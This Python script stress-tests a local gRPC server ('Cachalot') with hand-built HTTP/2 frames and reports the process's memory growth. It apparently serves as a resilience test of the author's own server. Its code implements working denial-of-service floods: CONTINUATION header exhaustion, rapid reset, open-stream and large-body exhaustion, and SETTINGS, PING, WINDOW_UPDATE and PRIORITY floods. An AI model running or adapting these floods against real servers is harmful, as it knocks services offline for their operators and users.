#!/usr/bin/env python3
"""Attacks on a gRPC port over bare connections: HTTP/2 frames written by hand, faster than any client would.

http2_attack.py PORT PID [NAME]... [--seconds S] [--connections N]   attacks a server on 127.0.0.1 and prints what it did to the process
"""

import argparse
import itertools
import socket
import struct
import threading
import time

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
METHOD = "/cachalot.v1.Cachalot/Complete"
PIECE = 256 << 10  # bytes of frames in a send
MAX_RSS = 3 << 30  # an attack that got this far has shown enough


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name, value):
    """A header field for HPACK: without indexing, new name, no Huffman coding."""
    return b"\x00" + hpack_string(name.encode()) + hpack_string(value.encode())


def hpack_string(text):
    return hpack_length(len(text)) + text


def hpack_length(number):
    if number < 127:
        return bytes([number])
    out, number = [127], number - 127
    while number >= 128:
        out.append(number % 128 + 128)
        number //= 128
    return bytes([*out, number])


CALL = b"".join(
    literal(name, value)
    for name, value in (
        (":method", "POST"),
        (":scheme", "http"),
        (":path", METHOD),
        (":authority", "localhost"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    )
)
EMPTY_MESSAGE = b"\x00" * 5


def streams():
    return itertools.count(1, 2)


# ---- What each attack sends after the preface --------------------------------------------------------------------------


def continuation():
    """A header block that does not end: one value of a gigabyte."""
    start = CALL + b"\x00" + hpack_string(b"x-long") + hpack_length(1 << 30)
    yield frame(HEADERS, 0, 1, start)
    while True:
        yield frame(CONTINUATION, 0, 1, b"x" * 16384)


def small_headers():
    """A header block that does not end: many small fields."""
    yield frame(HEADERS, 0, 1, CALL)
    while True:
        yield frame(CONTINUATION, 0, 1, literal("x-a", "b") * 1000)


def empty_continuation():
    yield frame(HEADERS, 0, 1, CALL)
    while True:
        yield frame(CONTINUATION, 0, 1)


def rapid_reset():
    for stream in streams():
        yield frame(HEADERS, END_HEADERS, stream, CALL)
        yield frame(DATA, END_STREAM, stream, EMPTY_MESSAGE)
        yield frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def reset_without_data():
    for stream in streams():
        yield frame(HEADERS, END_HEADERS, stream, CALL)
        yield frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def open_streams():
    """Calls whose request never comes."""
    for stream in streams():
        yield frame(HEADERS, END_HEADERS, stream, CALL)


def errors():
    """Calls that are answered at once with an error, which nobody reads."""
    for stream in streams():
        yield frame(HEADERS, END_HEADERS, stream, CALL)
        yield frame(DATA, END_STREAM, stream, EMPTY_MESSAGE)


def bodies():
    """Calls whose requests stay a byte short of 15 MiB, as many as are let in."""
    for stream in streams():
        yield frame(HEADERS, END_HEADERS, stream, CALL)
        yield frame(DATA, 0, stream, b"\x00" + struct.pack(">I", 15 << 20))
        for _ in range((15 << 20) // 16384 - 1):
            yield frame(DATA, 0, stream, b"x" * 16384)


def forever(bytes_of_frame):
    def attack():
        yield frame(HEADERS, END_HEADERS, 1, CALL)
        while True:
            yield bytes_of_frame

    return attack


ATTACKS = {
    "continuation": continuation,
    "small_headers": small_headers,
    "empty_continuation": empty_continuation,
    "rapid_reset": rapid_reset,
    "reset_without_data": reset_without_data,
    "open_streams": open_streams,
    "errors": errors,
    "bodies": bodies,
    "settings": forever(frame(SETTINGS)),
    "settings_values": forever(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535))),
    "ping": forever(frame(PING, 0, 0, b"12345678")),
    "ping_ack": forever(frame(PING, ACK, 0, b"12345678")),
    "empty_data": forever(frame(DATA, 0, 1)),
    "window_update": forever(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))),
    "priority": forever(frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 15))),
    "unknown": forever(frame(0x55, 0, 1, b"x")),
}


class Outcome:
    """What an attack did: bytes sent, connections that the server cut, the process's largest RSS."""

    def __init__(self):
        self.sent, self.num_cut, self.peak_rss = 0, 0, 0


def rss(pid):
    with open(f"/proc/{pid}/statm") as file:
        return int(file.read().split()[1]) * 4096


def run(name, port, pid, seconds, connections=1, reads=True):
    """Attacks for so long, or until the process has MAX_RSS. Each of so many connections comes again when it was cut.
    `reads`: takes what the server says."""
    outcome, deadline = Outcome(), time.monotonic() + seconds

    def is_over():
        return time.monotonic() >= deadline or outcome.peak_rss >= MAX_RSS

    def attack():
        while not is_over():
            try:
                attack_once(name, port, reads, is_over, outcome)
            except OSError:
                outcome.num_cut += 1

    attackers = [threading.Thread(target=attack) for _ in range(connections)]
    for attacker in attackers:
        attacker.start()
    while not is_over():
        outcome.peak_rss = max(outcome.peak_rss, rss(pid))
        time.sleep(0.05)
    for attacker in attackers:
        attacker.join()
    outcome.peak_rss = max(outcome.peak_rss, rss(pid))
    return outcome


def attack_once(name, port, reads, is_over, outcome):
    frames = ATTACKS[name]()
    with socket.create_connection(("127.0.0.1", port), timeout=1) as connection:
        if reads:
            threading.Thread(target=drain, args=(connection,), daemon=True).start()
        connection.sendall(PREFACE + frame(SETTINGS) + frame(SETTINGS, ACK))
        while not is_over():
            piece = bytearray()
            while len(piece) < PIECE:
                piece += next(frames)
            outcome.sent += send_all(connection, piece, is_over)


def send_all(connection, data, is_over):
    """Bytes sent until then: a server may stop reading, which is an answer, too."""
    sent = 0
    while sent < len(data) and not is_over():
        try:
            sent += connection.send(memoryview(data)[sent:])
        except TimeoutError:
            pass
    return sent


def drain(connection):
    try:
        while connection.recv(1 << 16):
            pass
    except (OSError, ValueError):
        pass


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("port", type=int)
    parser.add_argument("pid", type=int)
    parser.add_argument("names", nargs="*")
    parser.add_argument("--seconds", type=float, default=10)
    parser.add_argument("--connections", type=int, default=1)
    parser.add_argument("--unread", action="store_true", help="do not read what the server answers")
    options = parser.parse_args()
    for name in options.names or ATTACKS:
        before = rss(options.pid)
        outcome = run(name, options.port, options.pid, options.seconds, options.connections, not options.unread)
        time.sleep(1)
        print(
            f"{name:20} RSS {before >> 20:5} -> {outcome.peak_rss >> 20:5} MB, then {rss(options.pid) >> 20:5} MB; "
            f"{outcome.sent / 1e6:8.1f} MB sent, cut {outcome.num_cut} times",
            flush=True,
        )


if __name__ == "__main__":
    main()
